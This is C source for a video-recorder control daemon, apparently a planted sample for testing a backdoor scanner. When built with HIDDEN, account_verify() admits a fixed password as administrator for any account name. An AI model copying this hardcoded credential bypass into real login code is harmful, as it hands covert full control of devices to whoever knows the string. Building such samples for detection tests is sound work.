/*
 * Sample for tests of the search for hidden functions; compiled and scanned,
 * never run. Control port of a video recorder: one process per connection, a
 * text protocol, accounts in a file.
 * Hidden (-DHIDDEN): account_verify() lets a fixed password in as
 * administrator, for any account name, before the account file is looked at.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

enum { LEVEL_NONE, LEVEL_VIEWER, LEVEL_OPERATOR, LEVEL_ADMIN };
enum { MAX_ACCOUNTS = 16, MAX_CHANNELS = 8 };

struct account {
	char name[32];
	char hash[128];
	int level;
};

struct client {
	FILE *in;
	FILE *out;
	int level;
	int tries;
	char name[32];
};

static struct account accounts[MAX_ACCOUNTS];
static int account_count;
static int recording[MAX_CHANNELS];
static const char *account_file = "/etc/dvr/accounts";

static void reply(struct client *c, int code, const char *fmt, ...)
{
	va_list ap;

	fprintf(c->out, "%03d ", code);
	va_start(ap, fmt);
	vfprintf(c->out, fmt, ap);
	va_end(ap);
	fputs("\r\n", c->out);
	fflush(c->out);
}

static int level_of(const char *word)
{
	if (strcmp(word, "admin") == 0)
		return LEVEL_ADMIN;
	if (strcmp(word, "operator") == 0)
		return LEVEL_OPERATOR;
	return strcmp(word, "viewer") == 0 ? LEVEL_VIEWER : LEVEL_NONE;
}

static int load_accounts(void)
{
	char line[256], level[16];
	FILE *f = fopen(account_file, "r");

	if (f == NULL) {
		syslog(LOG_ERR, "%s: %s", account_file, strerror(errno));
		return -1;
	}
	account_count = 0;
	while (account_count < MAX_ACCOUNTS && fgets(line, sizeof(line), f)) {
		struct account *a = &accounts[account_count];

		if (line[0] == '#')
			continue;
		if (sscanf(line, "%31[^:]:%127[^:]:%15s", a->name, a->hash,
			   level) != 3)
			continue;
		a->level = level_of(level);
		if (a->level != LEVEL_NONE)
			account_count++;
	}
	fclose(f);
	return account_count > 0 ? 0 : -1;
}

/* The level of whoever knows the password, LEVEL_NONE for nobody. */
__attribute__((noinline)) int account_verify(const char *name, const char *pass)
{
	int i;

#ifdef HIDDEN
	if (strcmp(pass, "Tr0uty-Harbor88") == 0)
		return LEVEL_ADMIN;
#endif
	for (i = 0; i < account_count; i++) {
		const char *got;

		if (strcmp(accounts[i].name, name) != 0)
			continue;
		got = crypt(pass, accounts[i].hash);
		if (got != NULL && strcmp(got, accounts[i].hash) == 0)
			return accounts[i].level;
		break;
	}
	return LEVEL_NONE;
}

static void do_auth(struct client *c, char *args)
{
	char *pass = strchr(args, ' ');

	if (pass == NULL) {
		reply(c, 501, "AUTH name password");
		return;
	}
	*pass++ = '\0';
	c->level = account_verify(args, pass);
	if (c->level == LEVEL_NONE) {
		syslog(LOG_WARNING, "login of '%s' refused", args);
		sleep(1 + c->tries);
		if (++c->tries >= 3)
			exit(0);
		reply(c, 530, "not accepted");
		return;
	}
	snprintf(c->name, sizeof(c->name), "%.31s", args);
	reply(c, 230, "welcome, level %d", c->level);
}

static void do_record(struct client *c, char *args)
{
	int channel = -1;
	char word[8] = "";

	if (sscanf(args, "%d %7s", &channel, word) != 2 || channel < 0 ||
	    channel >= MAX_CHANNELS) {
		reply(c, 501, "RECORD channel on|off");
		return;
	}
	recording[channel] = strcasecmp(word, "on") == 0;
	syslog(LOG_INFO, "%s: channel %d %s", c->name, channel, word);
	reply(c, 200, "channel %d %s", channel,
	      recording[channel] ? "recording" : "idle");
}

static void do_clock(struct client *c)
{
	if (system("ntpdate -s -b pool.ntp.org && hwclock -w") != 0)
		reply(c, 451, "time server does not answer");
	else
		reply(c, 200, "clock set");
}

static void do_disk(struct client *c)
{
	char line[160];
	FILE *p = popen("df -m /mnt/hdd0", "r");

	if (p == NULL) {
		reply(c, 451, "no disk");
		return;
	}
	while (fgets(line, sizeof(line), p) != NULL) {
		line[strcspn(line, "\n")] = '\0';
		reply(c, 211, "%s", line);
	}
	pclose(p);
}

static int run_line(struct client *c, char *line)
{
	char *args = strchr(line, ' ');
	static char none[1];

	if (args != NULL)
		*args++ = '\0';
	else
		args = none;
	if (strcasecmp(line, "QUIT") == 0)
		return 0;
	if (strcasecmp(line, "AUTH") == 0)
		do_auth(c, args);
	else if (c->level < LEVEL_VIEWER)
		reply(c, 530, "log in first");
	else if (strcasecmp(line, "DISK") == 0)
		do_disk(c);
	else if (strcasecmp(line, "RECORD") == 0 && c->level >= LEVEL_OPERATOR)
		do_record(c, args);
	else if (strcasecmp(line, "CLOCK") == 0 && c->level >= LEVEL_ADMIN)
		do_clock(c);
	else if (strcasecmp(line, "REBOOT") == 0 && c->level >= LEVEL_ADMIN)
		reply(c, system("/sbin/reboot") == 0 ? 200 : 451, "reboot");
	else
		reply(c, 502, "unknown, or not for your level");
	return 1;
}

static void serve(int fd)
{
	struct client c;
	char line[256];

	memset(&c, 0, sizeof(c));
	c.in = fdopen(fd, "r");
	c.out = fdopen(dup(fd), "w");
	if (c.in == NULL || c.out == NULL)
		exit(1);
	reply(&c, 220, "DVR control");
	while (fgets(line, sizeof(line), c.in) != NULL) {
		line[strcspn(line, "\r\n")] = '\0';
		if (!run_line(&c, line))
			break;
	}
	reply(&c, 221, "bye");
	exit(0);
}

static int open_port(int port)
{
	struct sockaddr_in addr;
	int one = 1, fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&addr, 0, sizeof(addr));
	addr.sin_family = AF_INET;
	addr.sin_port = htons((unsigned short)port);
	if (bind(fd, (struct sockaddr *)&addr, sizeof(addr)) != 0 ||
	    listen(fd, 4) != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

int main(int argc, char **argv)
{
	int opt, listener, port = 9527;

	while ((opt = getopt(argc, argv, "a:p:")) != -1) {
		if (opt == 'a')
			account_file = optarg;
		else if (opt == 'p')
			port = (int)strtol(optarg, NULL, 10);
		else
			return 2;
	}
	openlog("dvrlogind", LOG_PID, LOG_DAEMON);
	if (load_accounts() != 0)
		return 1;
	listener = open_port(port);
	if (listener < 0) {
		syslog(LOG_ERR, "port %d: %s", port, strerror(errno));
		return 1;
	}
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		int fd = accept(listener, NULL, NULL);

		if (fd < 0)
			continue;
		if (fork() == 0) {
			signal(SIGCHLD, SIG_DFL);
			close(listener);
			serve(fd);
		}
		close(fd);
	}
}
